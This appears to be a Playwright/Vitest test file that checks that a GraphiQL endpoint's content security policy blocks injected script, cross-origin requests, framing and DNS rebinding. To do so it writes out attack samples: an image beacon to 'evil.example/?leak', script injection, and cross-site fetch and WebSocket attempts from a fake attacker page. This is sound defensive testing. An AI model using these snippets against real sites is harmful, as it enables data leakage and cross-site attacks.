import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { query, type TestApi, testApi } from '../api/support.ts';
import { findChromium } from './chromium.ts';

const executablePath = findChromium('that GraphiQL works in a browser under its policy');

/** The foreign name resolves to this machine, as an attacker's DNS could make it. */
const ARGUMENTS = ['--no-sandbox', '--disable-dev-shm-usage', '--host-resolver-rules=MAP evil.example 127.0.0.1'];

const SLOWLY = { timeout: 20_000 };

describe.skipIf(executablePath === undefined)('GraphiQL in Chromium', () => {
  let api: TestApi;
  let browser: Browser;
  beforeAll(async () => {
    api = await testApi();
    browser = await chromium.launch({ executablePath, args: ARGUMENTS });
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    await api?.close();
  });

  /** Opens the page and collects the complaints of the browser. */
  async function open(): Promise<{ page: Page; complaints: string[] }> {
    const page = await browser.newPage();
    const complaints: string[] = [];
    page.on('console', (message) => {
      if (message.type() === 'error' || message.text().includes('Content Security Policy'))
        complaints.push(message.text());
    });
    page.on('pageerror', (error) => complaints.push(String(error)));
    await page.goto(api.url);
    await page.locator('.graphiql-query-editor .CodeMirror').waitFor();
    return { page, complaints };
  }

  const run = (page: Page) => page.getByRole('button', { name: /Execute query/ }).click();
  const shown = (page: Page) => page.locator('.result-window').textContent();

  test('runs an operation and a subscription without a violation of its policy', async () => {
    const { page, complaints } = await open();
    await run(page);
    await expect.poll(() => shown(page), SLOWLY).toContain('"user"');
    const subscription = 'subscription Followed { workflowUpdated { name } }';
    await page.getByRole('button', { name: /New tab/ }).click();
    await page.locator('.graphiql-query-editor .CodeMirror').click();
    await page.keyboard.press('Control+A');
    await page.keyboard.insertText(subscription);
    // The tab title shows that GraphiQL has parsed the text.
    await page.locator('.graphiql-tab-button', { hasText: 'Followed' }).waitFor();
    await run(page);
    await page.getByRole('button', { name: /Stop query/ }).waitFor();
    const cookies = await page.context().cookies();
    const headers = { cookie: cookies.map(({ name, value }) => `${name}=${value}`).join('; ') };
    const change = `mutation ($name: String!) { createWorkflow(input: { name: $name, payload: { heartbeat: {} }, interval: 1,
      maxConsecutiveJobFailuresAllowed: 1 }) { workflow { id } } }`;
    await expect
      .poll(async () => {
        await query(api, change, { headers, variables: { name: 'followed' } });
        return shown(page);
      }, SLOWLY)
      .toContain('followed');

    await page.getByRole('button', { name: /Open settings dialog/ }).click();
    await page.getByRole('dialog').waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: /Show Documentation Explorer/ }).click();
    await expect.poll(() => page.locator('.graphiql-doc-explorer').textContent(), SLOWLY).toContain('Mutation');
    expect(complaints).toEqual([]);
    await page.close();
  }, 60_000);

  test('runs no injected script, and loads nothing from other origins', async () => {
    const { page, complaints } = await open();
    const ran = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.injected = true';
      document.body.append(script);
      const image = new Image();
      image.src = 'https://evil.example/?leak';
      await new Promise((resolve) => image.addEventListener('error', resolve, { once: true }));
      return 'injected' in globalThis;
    });
    expect(ran).toBe(false);
    expect(complaints.filter((text) => text.includes('Content Security Policy')).length).toBe(2);
    await page.close();
  }, 30_000);

  test('a page of another site cannot use it', async () => {
    const evil = createServer((_, response) =>
      response.setHeader('content-type', 'text/html').end(`<iframe src="${api.url}"></iframe>`),
    ).listen(0, '127.0.0.1');
    await once(evil, 'listening');
    const { port } = evil.address() as AddressInfo;
    const page = await browser.newPage();
    await page.goto(`http://evil.example:${port}`);
    const outcomes = await page.evaluate(async (url) => {
      const fetched = (init: RequestInit) =>
        fetch(url, { method: 'POST', body: '{"query":"{ viewer { id } }"}', ...init }).then(
          (response) => response.type,
          () => 'failed',
        );
      return {
        plain: await fetched({}),
        preflighted: await fetched({ headers: { 'content-type': 'application/json' } }),
        socket: await new Promise((resolve) => {
          const socket = new WebSocket(url.replace('http', 'ws'), 'graphql-transport-ws');
          socket.addEventListener('open', () => resolve('open'));
          socket.addEventListener('error', () => resolve('failed'));
        }),
      };
    }, api.url);
    expect(outcomes).toEqual({ plain: 'failed', preflighted: 'failed', socket: 'failed' });
    expect(page.frames()[1]?.url()).toMatch(/^chrome-error:/);
    evil.close();

    const rebound = await page.goto(api.url.replace('127.0.0.1', 'evil.example'));
    expect([rebound?.status(), await rebound?.text()]).toEqual([421, expect.stringContaining('PUBLIC_URL')]);
    await page.close();
  }, 30_000);
});
